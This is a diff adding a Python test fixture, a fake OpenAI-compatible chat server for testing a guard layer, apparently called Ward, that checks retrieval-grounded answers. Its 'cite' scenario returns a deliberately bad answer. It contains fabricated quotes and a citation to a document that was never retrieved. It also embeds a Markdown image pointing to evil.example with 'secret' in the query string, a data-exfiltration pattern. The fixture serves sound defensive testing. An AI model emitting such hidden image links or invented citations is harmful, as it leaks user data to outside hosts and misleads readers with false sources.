@@ -1,0 +1,140 @@
+#!/usr/bin/env python3
+"""A fake OpenAI Chat Completions model for the answer loop's tests (the real wire format, as
+tests/models/fake_openai_upstream.py), answering from the passages Ward fenced in the prompt.
+
+The scenario is the upstream model id (`[[models]] model = "..."`):
+
+  cite    a JSON answer with three claims about passage 1: one citing its first sentence
+          verbatim (survives), one with a fabricated quote (dropped: quote), one citing a doc id
+          that was never retrieved (dropped: retrieved); the answer text carries a Markdown image
+          to https://evil.example (stripped by Ward).
+  slow    writes <HOLD_DIR>/called, waits until <HOLD_DIR>/release exists, then answers with
+          the first sentence of the first passage whose doc id names a contract (else passage
+          1): a revocation can happen while it holds the request.
+
+Requests need `Authorization: Bearer test-upstream-key`. GET /_last/<scenario> returns the last
+request body. Prints "listening on http://127.0.0.1:PORT" and serves until killed.
+Usage: fake_answer_model.py HOLD_DIR
+"""
+import json
+import os
+import re
+import sys
+import threading
+import time
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+KEY = "test-upstream-key"
+LAST = {}
+LOCK = threading.Lock()
+HOLD_DIR = sys.argv[1] if len(sys.argv) > 1 else "."
+PASSAGE = re.compile(r"^\[passage (\d+)\] doc_id: (.*?) \| chunk: (\d+) \| version: (\d+) \| "
+                     r"title: .*$")
+
+
+def passages(user_text):
+    """[(doc_id, chunk, text)] from Ward's fenced passages."""
+    out, current = [], None
+    for line in user_text.split("\n"):
+        m = PASSAGE.match(line)
+        if m:
+            current = [m.group(2), int(m.group(3)), ""]
+            out.append(current)
+        elif line.startswith("<<<end ward-data"):
+            break
+        elif current is not None:
+            current[2] += line + "\n"
+    return out
+
+
+def first_sentence(text):
+    text = text.strip().lstrip("#").strip()
+    m = re.search(r"^(.*?[.!?])(\s|$)", text, re.S)
+    return (m.group(1) if m else text).strip()
+
+
+def reply(scenario, req):
+    user = next(m["content"] for m in req["messages"] if m["role"] == "user")
+    if isinstance(user, list):
+        user = "".join(p.get("text", "") for p in user)
+    ps = passages(user)
+    if not ps:
+        return {"answer": "Nothing was retrieved.", "claims": []}
+    doc, chunk, text = ps[0]
+    if scenario == "slow":  # the contract when it was retrieved: the one to revoke
+        doc, chunk, text = next((p for p in ps if "contract" in p[0]), ps[0])
+    good = first_sentence(text)
+    if scenario == "slow":
+        return {"answer": good, "claims": [{"text": good, "citations": [
+            {"doc_id": doc, "chunk": chunk, "quote": good}]}]}
+    return {
+        "answer": good + " It lasts 99 years. The board approved it. "
+                  "![chart](https://evil.example/c.png?d=secret)",
+        "claims": [
+            {"text": good, "citations": [{"doc_id": doc, "chunk": chunk, "quote": good}]},
+            {"text": "It lasts 99 years.", "citations": [
+                {"doc_id": doc, "chunk": chunk, "quote": "It lasts 99 years."}]},
+            {"text": "The board approved it.", "citations": [
+                {"doc_id": "board-minutes-2026", "chunk": 0,
+                 "quote": "The board approved it unanimously."}]},
+        ]}
+
+
+class Handler(BaseHTTPRequestHandler):
+    def log_message(self, *args):
+        pass
+
+    def send_json(self, status, body):
+        data = json.dumps(body).encode()
+        self.send_response(status)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(data)))
+        self.end_headers()
+        self.wfile.write(data)
+
+    def do_GET(self):
+        parts = self.path.strip("/").split("/")
+        if len(parts) == 2 and parts[0] == "_last":
+            with LOCK:
+                return self.send_json(200, LAST.get(parts[1], {}))
+        self.send_json(404, {"error": {"message": "not found"}})
+
+    def do_POST(self):
+        raw = self.rfile.read(int(self.headers.get("Content-Length", "0")))
+        if self.path != "/v1/chat/completions":
+            return self.send_json(404, {"error": {"message": "no route " + self.path}})
+        if self.headers.get("Authorization") != "Bearer " + KEY:
+            return self.send_json(401, {"error": {"message": "Incorrect API key provided",
+                                                  "type": "invalid_request_error"}})
+        req = json.loads(raw)
+        scenario = req.get("model", "cite")
+        with LOCK:
+            LAST[scenario] = req
+        if scenario == "slow":
+            open(os.path.join(HOLD_DIR, "called"), "w").close()
+            deadline = time.monotonic() + 120  # only stops a hung run
+            while not os.path.exists(os.path.join(HOLD_DIR, "release")):
+                if time.monotonic() > deadline:
+                    break
+                time.sleep(0.02)
+        content = json.dumps(reply(scenario, req))
+        self.send_json(200, {
+            "id": "chatcmpl-answer1", "object": "chat.completion", "created": 1700000000,
+            "model": scenario + "-2026-01-01",
+            "choices": [{"index": 0, "message": {"role": "assistant", "content": content},
+                         "logprobs": None, "finish_reason": "stop"}],
+            "usage": {"prompt_tokens": 100, "completion_tokens": 40, "total_tokens": 140}})
+
+
+def main():
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    server.daemon_threads = True
+    print(f"listening on http://127.0.0.1:{server.server_address[1]}", flush=True)
+    try:
+        server.serve_forever()
+    except KeyboardInterrupt:
+        pass
+
+
+if __name__ == "__main__":
+    sys.exit(main())
